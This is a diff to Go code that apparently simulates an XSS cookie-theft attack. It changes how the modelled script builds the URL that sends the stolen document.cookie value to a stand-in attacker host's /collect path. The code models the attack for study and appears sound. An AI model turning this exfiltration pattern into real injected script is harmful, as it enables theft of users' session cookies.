@@ -64,7 +64,8 @@ func xssCookieTheftScript(w *World) {
 	w.note(ActorVictim, "the script reads document.cookie", quoteOrEmpty(visible), check)
 	w.track("document.cookie", quoteOrEmpty(visible))
 
-	exfil := URL{Scheme: "https", Host: AttackerHost, Path: "/collect", Query: "c=" + visible}
+	exfil := w.attackerPage() // on the page's scheme, so that nothing is mixed content
+	exfil.Path, exfil.Query = "/collect", "c="+visible
 	w.victim.do(nav{method: "GET", url: exfil, initiator: doc.Origin(), action: "the script sends what it read to the attacker", actor: ActorVictim})
 	if stolen == "" && check == nil {
 		// No configuration explored reaches this, but a run must not panic.
